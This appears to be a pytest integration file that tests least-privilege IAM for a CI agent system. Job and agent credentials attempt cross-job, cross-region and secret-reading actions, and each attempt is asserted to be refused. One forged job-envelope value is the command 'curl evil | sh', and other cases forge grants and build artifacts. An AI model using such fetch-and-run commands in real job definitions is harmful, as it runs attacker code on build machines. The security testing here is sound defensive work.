"""An attacker's matrix, on the local stack with IAM enforcement on and the credentials an agent
really holds (issue 28): the region's agent role (stack.json agent_credentials, a session of
AgentRole) and the job credentials its claim is answered with (a session of JobRole tagged with
the job, minted by the claim route). Every refusal is asserted by the error AWS gives.

Who refuses what, locally:
- moto's own IAM: actions of every service, and the SQS queue and S3 object a request names;
- the local stack's DynamoDB authorization (local/relevo_local/moto/dynamodb_authorization.py):
  the table, `dynamodb:LeadingKeys` and `dynamodb:Attributes`;
- the local stack's STS (local/relevo_local/moto/sts.py): session tags, the policy
  variables they fill, and the expiry of a tagged session;
- the local API Gateway: execute-api:Invoke of the claim route of another region.
The same policies are evaluated offline with the IAM evaluator (tests/infrastructure/test_least_privilege.py).
"""

from __future__ import annotations

import secrets
from dataclasses import dataclass
from datetime import UTC
from typing import Any

import pytest
from botocore.credentials import ReadOnlyCredentials

from relevo_agent import permissions
from relevo_agent.claim import new_claim_secret
from relevo_agent.claim_routes import ClaimRoutes, RouteError
from relevo_agent.doctor import check_permissions
from relevo_core.aws import client
from relevo_core.models.agent_session import ClaimRequest, JobSession, SessionRequest
from tests.helpers.iam import client_as, refusal_code
from tests.helpers.stack import receive_stage
from tests.helpers.state_machine import start_job

NEVER = {"ConditionExpression": "attribute_exists(pk) AND attribute_not_exists(pk)"}


def _agent_credentials(stack, region: str) -> ReadOnlyCredentials:
    found = stack.agent_credentials[region]
    return ReadOnlyCredentials(found.access_key_id, found.secret_access_key, found.session_token)


def _as_agent(stack, region: str, service: str) -> Any:
    credentials = _agent_credentials(stack, region)
    return client_as(stack, service, credentials.access_key, credentials.secret_key, credentials.token)


def _as_job(stack, session: JobSession, service: str) -> Any:
    return client_as(stack, service, session.access_key_id, session.secret_access_key, session.session_token)


def _routes(stack, region: str, as_region: str | None = None) -> ClaimRoutes:
    """The claim routes of `region`, called with the credentials of `as_region`'s agents."""
    return ClaimRoutes(
        stack.api_url,
        region,
        stack.region,
        credentials=lambda: _agent_credentials(stack, as_region or region),
    )


def _put(table: str, pk: str, sk: str, **attributes: str) -> dict[str, Any]:
    return {
        "TableName": table,
        "Item": {"pk": {"S": pk}, "sk": {"S": sk}, **{k: {"S": v} for k, v in attributes.items()}},
    }


def _update(table: str, pk: str, sk: str, attribute: str, value: str) -> dict[str, Any]:
    return {
        "TableName": table,
        "Key": {"pk": {"S": pk}, "sk": {"S": sk}},
        "UpdateExpression": "SET #a = :v",
        "ExpressionAttributeNames": {"#a": attribute},
        "ExpressionAttributeValues": {":v": {"S": value}},
    }


@dataclass
class Dispatched:
    job_id: str
    project: str
    task: dict[str, Any]

    def claim(self, stack, agent_id: str, secret: str | None = None, **changes: Any) -> ClaimRequest:
        return ClaimRequest(
            job_id=self.job_id,
            stage_index=self.task["stage_index"],
            attempt=self.task["attempt"],
            agent_id=agent_id,
            claim_secret=secret or new_claim_secret(),
            dispatch_key=self.task["dispatch_key"],
            dispatch_token=self.task["task_token"],
            accept=False,
            **changes,
        )


@dataclass
class Matrix:
    """Job X (project P, eu-west) claimed by an eu-west agent; job Y (project Q, eu-west, which
    signs and checks out with credentials) and job Z (us-east) dispatched, not claimed by it."""

    x: Dispatched
    y: Dispatched
    z: Dispatched
    session: JobSession
    secret: str
    agent_id: str
    q_signing: str
    q_git: str
    p_signing: str


@pytest.fixture(scope="module")
def matrix(local_stack) -> Matrix:
    stack, suffix = local_stack, secrets.token_hex(3)
    p, q, r = f"p-att-{suffix}", f"q-att-{suffix}", f"r-att-{suffix}"
    stages = [{"name": "build", "run": "true"}]
    admin = client("secretsmanager")
    q_signing = admin.create_secret(
        Name=f"relevo/{stack.stack_name}/_signing/eu-west/{q}/dist.p12", SecretBinary=b"\x30\x82p12"
    )["Name"]
    q_pass = admin.create_secret(
        Name=f"relevo/{stack.stack_name}/_signing/eu-west/{q}/dist.pass", SecretString="pass"
    )["Name"]
    q_git = admin.create_secret(Name=f"relevo/{stack.stack_name}/_git/{q}/token", SecretString="ghp_q")[
        "Name"
    ]
    p_signing = admin.create_secret(
        Name=f"relevo/{stack.stack_name}/_signing/eu-west/{p}/dist.p12", SecretBinary=b"\x30\x82p12"
    )["Name"]
    jobs = {}
    x_id = start_job(stack, p, stages)
    jobs["x"] = Dispatched(x_id, p, receive_stage(stack, x_id)[0])
    y_id = start_job(
        stack,
        q,
        stages,
        signing={"keychain": "temporary", "identities": [{"p12_ref": q_signing, "passphrase_ref": q_pass}]},
        checkout={"url": "https://git.example.com/q.git", "credentials_ref": q_git},
    )
    jobs["y"] = Dispatched(y_id, q, receive_stage(stack, y_id)[0])
    z_id = start_job(stack, r, stages, region_affinity="us-east")
    jobs["z"] = Dispatched(z_id, r, receive_stage(stack, z_id, region="us-east")[0])
    secret, agent_id = new_claim_secret(), f"mac-{suffix}"
    granted = _routes(stack, "eu-west").claim(jobs["x"].claim(stack, agent_id, secret))
    return Matrix(
        jobs["x"], jobs["y"], jobs["z"], granted.session, secret, agent_id, q_signing, q_git, p_signing
    )


def test_a_claim_is_answered_with_the_job_and_a_session_of_the_job_role_tagged_with_it(local_stack, matrix):
    identity = _as_job(local_stack, matrix.session, "sts").get_caller_identity()["Arn"]
    role = client("iam").get_role(RoleName=local_stack.resources["JobRole"])["Role"]["RoleName"]
    assert identity.endswith(f":assumed-role/{role}/{matrix.x.job_id}.0.1")
    from relevo_local.moto.sts import session_tags

    tags = session_tags(matrix.session.access_key_id)
    assert tags is not None and tags["job"] == matrix.x.job_id and tags["project"] == matrix.x.project
    assert tags["signing"] == "-" and tags["git"] == "-" and {tags[f"l{n}"] for n in range(1, 9)} == {"-"}
    # Soon after the stage's exec timeout (1 h by default) and lease: here the hour STS allows.
    from datetime import datetime

    left = (matrix.session.expiration - datetime.now(UTC)).total_seconds()
    assert 3000 < left <= 3600, left


def test_what_the_job_credentials_do_for_their_own_job_is_allowed(local_stack, matrix):
    table, x = local_stack.table_name, matrix.x.job_id
    dynamodb, s3 = (
        _as_job(local_stack, matrix.session, "dynamodb"),
        _as_job(local_stack, matrix.session, "s3"),
    )
    assert dynamodb.get_item(TableName=table, Key={"pk": {"S": f"JOB#{x}"}, "sk": {"S": "JOB"}})["Item"][
        "status"
    ]
    # Writes are authorized, then refused by a condition that never holds: nothing is left behind.
    for args in (_update(table, f"STAGES#{x}", "STAGE#00", "status", "running"),):
        assert (
            refusal_code(lambda args=args: dynamodb.update_item(**args, **NEVER))
            == "ConditionalCheckFailedException"
        )
    for pk, sk in (
        (f"LOGS#{x}", "SEQ#000000000000"),
        (f"ARTIFACTS#{x}", "build#app.ipa"),
        (f"ARTIFACTS#{x}", "test#shard-1/app.ipa"),
    ):
        assert (
            refusal_code(lambda pk=pk, sk=sk: dynamodb.put_item(**_put(table, pk, sk, data="x"), **NEVER))
            == "ConditionalCheckFailedException"
        )
    bucket = local_stack.resources["ArtifactBucket"]
    # A stage's files, and a shard's (under <stage>/shard-<k>/, docs/parallel-stages.md): both the job's
    # prefix.
    for key in (f"{matrix.x.project}/{x}/build/app.ipa", f"{matrix.x.project}/{x}/test/shard-1/app.ipa"):
        s3.put_object(Bucket=bucket, Key=key, Body=b"ipa")
        assert s3.get_object(Bucket=bucket, Key=key)["Body"].read() == b"ipa"


@pytest.mark.parametrize(
    "what, call, code",
    [
        # The job record is the state machine's: its outcome and envelope, even for its own job.
        (
            "X's outcome",
            lambda t, m: (
                "dynamodb",
                "update_item",
                _update(t, f"JOB#{m.x.job_id}", "JOB", "status", "succeeded"),
            ),
            "AccessDeniedException",
        ),
        (
            "X's envelope",
            lambda t, m: (
                "dynamodb",
                "update_item",
                _update(t, f"JOB#{m.x.job_id}", "JOB", "envelope", "curl evil | sh"),
            ),
            "AccessDeniedException",
        ),
        (
            "X's last successful stage",
            lambda t, m: (
                "dynamodb",
                "update_item",
                _update(t, f"JOB#{m.x.job_id}", "JOB", "last_successful_stage", "sign"),
            ),
            "AccessDeniedException",
        ),
        (
            "X's claim (who holds it is the claim route's to write)",
            lambda t, m: (
                "dynamodb",
                "update_item",
                _update(t, f"STAGES#{m.x.job_id}", "STAGE#00", "claim_id", "forged"),
            ),
            "AccessDeniedException",
        ),
        # Job Y, same region, another project.
        (
            "Y's envelope",
            lambda t, m: (
                "dynamodb",
                "get_item",
                {"TableName": t, "Key": {"pk": {"S": f"JOB#{m.y.job_id}"}, "sk": {"S": "JOB"}}},
            ),
            "AccessDeniedException",
        ),
        (
            "Y's stage outcome",
            lambda t, m: (
                "dynamodb",
                "update_item",
                _update(t, f"STAGES#{m.y.job_id}", "STAGE#00", "status", "succeeded"),
            ),
            "AccessDeniedException",
        ),
        (
            "Y's stage records",
            lambda t, m: (
                "dynamodb",
                "query",
                {
                    "TableName": t,
                    "KeyConditionExpression": "pk = :p",
                    "ExpressionAttributeValues": {":p": {"S": f"STAGES#{m.y.job_id}"}},
                },
            ),
            "AccessDeniedException",
        ),
        (
            "Y's log",
            lambda t, m: (
                "dynamodb",
                "put_item",
                _put(t, f"LOGS#{m.y.job_id}", "SEQ#000000000000", data="forged"),
            ),
            "AccessDeniedException",
        ),
        (
            "Y's artifact records",
            lambda t, m: (
                "dynamodb",
                "put_item",
                _put(t, f"ARTIFACTS#{m.y.job_id}", "build/app.ipa", sha256="0" * 64),
            ),
            "AccessDeniedException",
        ),
        (
            "Z's stage (another region)",
            lambda t, m: (
                "dynamodb",
                "update_item",
                _update(t, f"STAGES#{m.z.job_id}", "STAGE#00", "status", "succeeded"),
            ),
            "AccessDeniedException",
        ),
        # Objects: Y's artifacts and handoffs, and another job of X's own project.
        (
            "Y's artifact object",
            lambda t, m: (
                "s3",
                "put_object",
                {"Key": f"{m.y.project}/{m.y.job_id}/build/forged.ipa", "Body": b"x"},
            ),
            "AccessDenied",
        ),
        (
            "Y's handoff manifest",
            lambda t, m: (
                "s3",
                "get_object",
                {"Key": f"{m.y.project}/{m.y.job_id}/.relevo-handoff/build/manifest.json"},
            ),
            "AccessDenied",
        ),
        (
            "another job of X's project",
            lambda t, m: (
                "s3",
                "put_object",
                {"Key": f"{m.x.project}/job_{'0' * 26}/build/forged.ipa", "Body": b"x"},
            ),
            "AccessDenied",
        ),
        (
            "a shard's object of another job of X's project",
            lambda t, m: (
                "s3",
                "put_object",
                {"Key": f"{m.x.project}/job_{'0' * 26}/test/shard-1/forged.ipa", "Body": b"x"},
            ),
            "AccessDenied",
        ),
        (
            "the bucket's top",
            lambda t, m: ("s3", "put_object", {"Key": "forged.ipa", "Body": b"x"}),
            "AccessDenied",
        ),
        # Secrets: another project's signing identities and checkout credentials; X's own
        # project's signing identities too, since X's plan does not sign.
        (
            "Q's signing identity",
            lambda t, m: ("secretsmanager", "get_secret_value", {"SecretId": m.q_signing}),
            "AccessDeniedException",
        ),
        (
            "Q's checkout credentials",
            lambda t, m: ("secretsmanager", "get_secret_value", {"SecretId": m.q_git}),
            "AccessDeniedException",
        ),
        (
            "P's signing identity, for a plan that does not sign",
            lambda t, m: ("secretsmanager", "get_secret_value", {"SecretId": m.p_signing}),
            "AccessDeniedException",
        ),
        # Nothing of the agent role's own: its queue, presence, pauses.
        (
            "the region's queue",
            lambda t, m: ("sqs", "receive_message", {"WaitTimeSeconds": 0}),
            "AccessDenied",
        ),
        (
            "presence",
            lambda t, m: ("dynamodb", "put_item", _put(t, "AGENTS#eu-west", "AGENT#forged")),
            "AccessDeniedException",
        ),
    ],
)
def test_the_job_credentials_of_x_are_refused_everything_else(local_stack, matrix, what, call, code):
    service, operation, args = call(local_stack.table_name, matrix)
    if service == "s3":
        args = {"Bucket": local_stack.resources["ArtifactBucket"], **args}
    if service == "sqs":
        args = {"QueueUrl": local_stack.work_queues["eu-west"], **args}
    as_job = _as_job(local_stack, matrix.session, service)
    assert refusal_code(lambda: getattr(as_job, operation)(**args)) == code, what


@pytest.mark.parametrize(
    "what, call",
    [
        (
            "a job's record",
            lambda t, m: (
                "get_item",
                {"TableName": t, "Key": {"pk": {"S": f"JOB#{m.x.job_id}"}, "sk": {"S": "JOB"}}},
            ),
        ),
        (
            "a job's stage records",
            lambda t, m: (
                "get_item",
                {"TableName": t, "Key": {"pk": {"S": f"STAGES#{m.x.job_id}"}, "sk": {"S": "STAGE#00"}}},
            ),
        ),
        (
            "a stage's outcome",
            lambda t, m: (
                "update_item",
                _update(t, f"STAGES#{m.x.job_id}", "STAGE#00", "status", "succeeded"),
            ),
        ),
        (
            "a job's outcome",
            lambda t, m: ("update_item", _update(t, f"JOB#{m.y.job_id}", "JOB", "status", "succeeded")),
        ),
        ("a log", lambda t, m: ("put_item", _put(t, f"LOGS#{m.x.job_id}", "SEQ#000000000000", data="x"))),
        ("artifact records", lambda t, m: ("put_item", _put(t, f"ARTIFACTS#{m.x.job_id}", "build/app.ipa"))),
        ("a project's definition", lambda t, m: ("put_item", _put(t, f"PROJECT#{m.x.project}", "PROJECT"))),
        (
            "a grant",
            lambda t, m: (
                "put_item",
                _put(
                    t,
                    f"PROJECT#{m.x.project}",
                    "GRANT#arn:aws:iam::123456789012:user/mallory",
                    level="manage",
                ),
            ),
        ),
        ("a project lock", lambda t, m: ("put_item", _put(t, f"LOCK#{m.x.project}", "LOCK"))),
        ("a dedup record", lambda t, m: ("put_item", _put(t, f"DEDUP#{m.x.project}", "DEDUP"))),
        ("another region's presence", lambda t, m: ("put_item", _put(t, "AGENTS#us-east", "AGENT#forged"))),
        (
            "the attempts an agent holds (their run tokens)",
            lambda t, m: (
                "query",
                {
                    "TableName": t,
                    "IndexName": "HeldAttemptsIndex",
                    "KeyConditionExpression": "held_by = :a",
                    "ExpressionAttributeValues": {":a": {"S": m.agent_id}},
                },
            ),
        ),
        (
            "deleting a job",
            lambda t, m: (
                "delete_item",
                {"TableName": t, "Key": {"pk": {"S": f"JOB#{m.x.job_id}"}, "sk": {"S": "JOB"}}},
            ),
        ),
    ],
)
def test_the_agent_role_alone_touches_no_job(local_stack, matrix, what, call):
    operation, args = call(local_stack.table_name, matrix)
    dynamodb = _as_agent(local_stack, "eu-west", "dynamodb")
    assert refusal_code(lambda: getattr(dynamodb, operation)(**args)) == "AccessDeniedException", what


def test_the_agent_role_alone_has_no_object_secret_or_task_power(local_stack, matrix):
    bucket = local_stack.resources["ArtifactBucket"]
    s3 = _as_agent(local_stack, "eu-west", "s3")
    assert (
        refusal_code(
            lambda: s3.put_object(
                Bucket=bucket, Key=f"{matrix.x.project}/{matrix.x.job_id}/forged.ipa", Body=b"x"
            )
        )
        == "AccessDenied"
    )
    assert (
        refusal_code(
            lambda: s3.get_object(Bucket=bucket, Key=f"{matrix.x.project}/{matrix.x.job_id}/build/app.ipa")
        )
        == "AccessDenied"
    )
    secrets_manager = _as_agent(local_stack, "eu-west", "secretsmanager")
    for secret in (matrix.q_signing, matrix.q_git, matrix.p_signing):
        assert (
            refusal_code(lambda secret=secret: secrets_manager.get_secret_value(SecretId=secret))
            == "AccessDeniedException"
        ), secret
    sfn = _as_agent(local_stack, "eu-west", "stepfunctions")
    # A task token is a capability: the agent's own credentials may answer none, not even Y's
    # dispatch it holds the message of (its claim goes through the route).
    assert (
        refusal_code(lambda: sfn.send_task_success(taskToken=matrix.y.task["task_token"], output="{}"))
        == "AccessDeniedException"
    )
    for machine in local_stack.machines:  # either job machine: a Mac starts no job
        assert (
            refusal_code(lambda machine=machine: sfn.start_execution(stateMachineArn=machine, input="{}"))
            == "AccessDeniedException"
        )
    sqs = _as_agent(local_stack, "eu-west", "sqs")
    assert (
        refusal_code(
            lambda: sqs.receive_message(QueueUrl=local_stack.work_queues["us-east"], WaitTimeSeconds=0)
        )
        == "AccessDenied"
    )
    assert (
        refusal_code(lambda: sqs.send_message(QueueUrl=local_stack.work_queues["us-east"], MessageBody="{}"))
        == "AccessDenied"
    )


def test_a_claim_in_another_region_is_refused(local_stack, matrix):
    # The us-east claim route is not the eu-west agent role's to call: API Gateway refuses it.
    with pytest.raises(RouteError) as refused:
        _routes(local_stack, "us-east", as_region="eu-west").claim(
            matrix.z.claim(local_stack, matrix.agent_id)
        )
    assert (refused.value.status, refused.value.code) == (403, "FORBIDDEN")
    assert "execute-api:Invoke" in refused.value.message
    # Its own region's route, with Z's dispatch (a us-east message it could only have forged): no such
    # dispatch here.
    with pytest.raises(RouteError) as refused:
        _routes(local_stack, "eu-west").claim(matrix.z.claim(local_stack, matrix.agent_id))
    assert (refused.value.status, refused.value.code) == (404, "DISPATCH_NOT_FOUND")
    # Y's attempt with a key it was never shown.
    forged = matrix.y.claim(local_stack, matrix.agent_id).model_copy(
        update={"dispatch_key": "00000000-0000-4000-8000-000000000000"}
    )
    with pytest.raises(RouteError) as refused:
        _routes(local_stack, "eu-west").claim(forged)
    assert (refused.value.status, refused.value.code) == (404, "DISPATCH_NOT_FOUND")


def test_an_expired_session_is_refused_and_only_the_claims_secret_renews_it(local_stack, matrix):
    from relevo_local.moto.sts import expire_now

    routes = _routes(local_stack, "eu-west")
    request = SessionRequest(
        job_id=matrix.x.job_id, stage_index=0, attempt=1, agent_id=matrix.agent_id, claim_secret=matrix.secret
    )
    renewed = routes.renew(request)
    assert renewed.access_key_id != matrix.session.access_key_id
    expire_now(renewed.access_key_id)
    table, key = local_stack.table_name, {"pk": {"S": f"JOB#{matrix.x.job_id}"}, "sk": {"S": "JOB"}}
    assert (
        refusal_code(lambda: _as_job(local_stack, renewed, "dynamodb").get_item(TableName=table, Key=key))
        == "ExpiredTokenException"
    )
    bucket = local_stack.resources["ArtifactBucket"]
    assert (
        refusal_code(
            lambda: _as_job(local_stack, renewed, "s3").get_object(
                Bucket=bucket, Key=f"{matrix.x.project}/{matrix.x.job_id}/x"
            )
        )
        == "ExpiredToken"
    )
    for wrong in (
        request.model_copy(update={"claim_secret": new_claim_secret()}),
        request.model_copy(update={"agent_id": "mac-other"}),
        request.model_copy(update={"attempt": 2}),
        request.model_copy(update={"job_id": matrix.y.job_id}),
    ):
        with pytest.raises(RouteError) as refused:
            routes.renew(wrong)
        assert (refused.value.status, refused.value.code) == (409, "ATTEMPT_NOT_HELD"), wrong
    assert _as_job(local_stack, routes.renew(request), "dynamodb").get_item(TableName=table, Key=key)["Item"]


def test_a_signing_plans_session_reads_its_own_projects_identities_and_no_other(local_stack, matrix):
    routes = _routes(local_stack, "eu-west")
    granted = routes.claim(matrix.y.claim(local_stack, f"{matrix.agent_id}-y"))
    secrets_manager = _as_job(local_stack, granted.session, "secretsmanager")
    assert secrets_manager.get_secret_value(SecretId=matrix.q_signing)["SecretBinary"] == b"\x30\x82p12"
    assert secrets_manager.get_secret_value(SecretId=matrix.q_git)["SecretString"] == "ghp_q"
    assert (
        refusal_code(lambda: secrets_manager.get_secret_value(SecretId=matrix.p_signing))
        == "AccessDeniedException"
    )
    other_region = client("secretsmanager").create_secret(
        Name=f"relevo/{local_stack.stack_name}/_signing/us-east/{matrix.y.project}/dist.p12",
        SecretBinary=b"x",
    )["Name"]
    assert (
        refusal_code(lambda: secrets_manager.get_secret_value(SecretId=other_region))
        == "AccessDeniedException"
    )
    webhook = f"relevo/{local_stack.stack_name}/{matrix.y.project}/github"
    assert refusal_code(lambda: secrets_manager.get_secret_value(SecretId=webhook)) == "AccessDeniedException"


def test_an_agent_reads_the_pauses_it_obeys_and_can_set_or_lift_none(local_stack, monkeypatch):
    """Pauses are the operators' (POST /agents/{id}/pause, admins only): an agent that could write
    them could pause its peers, or lift or stretch its own. It reads its own and its region's with
    every presence write; writing either, where the store keeps them, is refused."""
    from datetime import datetime, timedelta

    from relevo_core.store import agent_pauses

    table, peer = local_stack.table_name, f"mac-{secrets.token_hex(3)}"
    now = datetime.now(UTC)
    pause = agent_pauses.AgentPause(
        region="eu-west",
        agent_id=peer,
        note="forged",
        set_at=now,
        until=now + timedelta(days=7),
        timeout_sec=600,
    )
    with monkeypatch.context() as agent:
        _with_credentials(agent, local_stack.agent_credentials["eu-west"])
        assert agent_pauses.pauses_for_agent(table, "eu-west", peer) == (None, None)
        for what, write in (
            ("pausing a peer", lambda: agent_pauses.put_pause(table, pause)),
            (
                "pausing the region's dispatch",
                lambda: agent_pauses.put_pause(table, pause.model_copy(update={"agent_id": None})),
            ),
            ("lifting a pause", lambda: agent_pauses.delete_pause(table, "eu-west", peer)),
        ):
            assert refusal_code(write) == "AccessDeniedException", what
    from relevo_core.aws import reset_clients

    reset_clients()  # back to the test's own credentials: nothing was written
    assert agent_pauses.region_pauses(table, "eu-west").get(peer) is None


def _with_credentials(monkeypatch, credentials) -> None:
    from relevo_core.aws import reset_clients

    monkeypatch.setenv("AWS_ACCESS_KEY_ID", credentials.access_key_id)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", credentials.secret_access_key)
    if credentials.session_token:
        monkeypatch.setenv("AWS_SESSION_TOKEN", credentials.session_token)
    else:
        monkeypatch.delenv("AWS_SESSION_TOKEN", raising=False)
    reset_clients()


def test_doctor_finds_an_agents_credentials_fit_and_names_excess_and_missing_ones(local_stack, monkeypatch):
    with monkeypatch.context() as agent:
        _with_credentials(agent, local_stack.agent_credentials["eu-west"])
        fits = check_permissions(local_stack, "eu-west", None)
    assert fits.ok, fits.words
    assert "are allowed" in fits.words and "are refused" in fits.words

    # The stack administrator's credentials can do far more than an agent should.
    with monkeypatch.context() as admin:
        _with_credentials(admin, local_stack.local_credentials)
        too_much = check_permissions(local_stack, "eu-west", None)
    assert not too_much.ok
    assert (
        "these credentials can write project items (dynamodb:PutItem); an agent's should not"
        in too_much.words
    )
    assert (
        "these credentials can read jobs and stages (dynamodb:GetItem); an agent's should not"
        in too_much.words
    )
    assert "these credentials can answer stage tasks (states:SendTaskHeartbeat)" in too_much.words
    assert "take us-east's stages" in too_much.words and "start executions" in too_much.words
    assert "these credentials can read signing identities (secretsmanager:GetSecretValue)" in too_much.words

    # An agent of another region may not take this region's stages nor claim them.
    with monkeypatch.context() as other:
        _with_credentials(other, local_stack.agent_credentials["us-east"])
        wrong_region = check_permissions(local_stack, "eu-west", None)
    assert not wrong_region.ok
    assert (
        "missing: " in wrong_region.words
        and "hand stage messages back (sqs:ChangeMessageVisibility)" in wrong_region.words
    )
    assert (
        "write presence in eu-west" in wrong_region.words and "read pauses in eu-west" in wrong_region.words
    )
    assert "cannot claim eu-west's stages (execute-api:Invoke)" in wrong_region.words


def test_every_probe_of_doctor_is_harmless(local_stack, monkeypatch):
    """Probes run with the administrator's credentials (everything allowed) write nothing."""
    with monkeypatch.context() as admin:
        _with_credentials(admin, local_stack.local_credentials)
        findings = [
            permissions.run(probe)
            for probe in permissions.probes(
                local_stack.table_name,
                "eu-west",
                local_stack.work_queues["eu-west"],
                {"us-east": local_stack.work_queues["us-east"]},
                local_stack.resources["ArtifactBucket"],
                local_stack.state_machine_arn,
                local_stack.stack_name,
                local_stack.api_url,
                local_stack.region,
            )
        ]
    assert all(finding.allowed for finding in findings), [
        (f.probe.what, f.why) for f in findings if not f.allowed
    ]
    probe = permissions.PROBE_ID
    for pk, sk in [
        (f"STAGES#{probe}", "STAGE#00"),
        (f"JOB#{probe}", "STAGE#00"),
        (f"JOB#{probe}", "JOB"),
        (f"LOGS#{probe}", "SEQ#000000000000"),
        (f"ARTIFACTS#{probe}", "probe"),
        ("AGENTS#eu-west", f"AGENT#{probe}"),
        (f"PROJECT#{probe}", "PROJECT"),
        (f"PROJECT#{probe}", f"GRANT#{probe}"),
        (f"LOCK#{probe}", "LOCK"),
        (f"DEDUP#{probe}", "DEDUP"),
        ("PAUSES#eu-west", f"PAUSE#{probe}"),
    ]:
        assert "Item" not in client("dynamodb").get_item(
            TableName=local_stack.table_name, Key={"pk": {"S": pk}, "sk": {"S": sk}}
        ), (pk, sk)


def test_the_us_east_macs_cannot_turn_a_job_green_or_ship_a_forged_build(local_stack, matrix):
    """The finding as it was reproduced: with the credentials the stack file gives the us-east
    Macs, `status` of a job's JOB and STAGE#00 items was set to succeeded and `forged.ipa` written
    under its prefix. Each is refused now, by the error AWS gives."""
    table, job = local_stack.table_name, matrix.x.job_id
    dynamodb, s3 = _as_agent(local_stack, "us-east", "dynamodb"), _as_agent(local_stack, "us-east", "s3")
    for pk, sk in ((f"JOB#{job}", "JOB"), (f"STAGES#{job}", "STAGE#00"), (f"JOB#{job}", "STAGE#00")):
        assert (
            refusal_code(
                lambda pk=pk, sk=sk: dynamodb.update_item(**_update(table, pk, sk, "status", "succeeded"))
            )
            == "AccessDeniedException"
        ), (pk, sk)
    bucket = local_stack.resources["ArtifactBucket"]
    assert (
        refusal_code(
            lambda: s3.put_object(Bucket=bucket, Key=f"{matrix.x.project}/{job}/forged.ipa", Body=b"x")
        )
        == "AccessDenied"
    )


def test_a_shards_session_writes_its_own_log_partition_and_no_siblings_the_jobs_or_another_jobs(
    local_stack, matrix
):
    """Each shard logs to a partition of its own, and the session its claim is answered with is
    tagged with that partition only (`log`): a sibling shard's, the job's own and another job's are
    refused by dynamodb:LeadingKeys, as AWS refuses them (AccessDeniedException)."""
    from relevo_core.store.keys import log_pk
    from tests.integration.test_parallel_stages import stage_messages

    # Given a job whose one stage runs two shards, shard 1 claimed through the claim route
    stack = local_stack
    project = f"s-att-{secrets.token_hex(3)}"
    job_id = start_job(stack, project, [{"name": "test", "run": "make test", "parallel": 2}])
    tasks = stage_messages(stack, job_id, 2)
    shard = Dispatched(job_id, project, tasks[1])
    granted = _routes(stack, "eu-west").claim(shard.claim(stack, f"mac-shard-{job_id[-4:]}", shard=1))
    dynamodb, table = _as_job(stack, granted.session, "dynamodb"), stack.table_name
    # Then its own partition is authorized (the write is refused only by a condition that never holds)
    own = log_pk(job_id, 0, 1)
    assert (
        refusal_code(lambda: dynamodb.put_item(**_put(table, own, "SEQ#000000000000", data="x"), **NEVER))
        == "ConditionalCheckFailedException"
    )
    dynamodb.query(
        TableName=table,
        KeyConditionExpression="pk = :p",
        ExpressionAttributeValues={":p": {"S": own}},
        Limit=1,
    )
    # And every other log partition is refused: its sibling's, the job's own, another job's (and its shards')
    for other in (
        log_pk(job_id, 0, 0),
        log_pk(job_id),
        log_pk(matrix.x.job_id),
        log_pk(matrix.x.job_id, 0, 1),
        f"LOGS#{job_id}/00",
    ):
        assert (
            refusal_code(
                lambda other=other: dynamodb.put_item(**_put(table, other, "SEQ#000000000000", data="forged"))
            )
            == "AccessDeniedException"
        ), other
    # And job X's session (a stage without shards) writes its own log and none of these shards'
    as_x = _as_job(stack, matrix.session, "dynamodb")
    assert (
        refusal_code(
            lambda: as_x.put_item(**_put(table, log_pk(job_id, 0, 1), "SEQ#000000000000", data="forged"))
        )
        == "AccessDeniedException"
    )
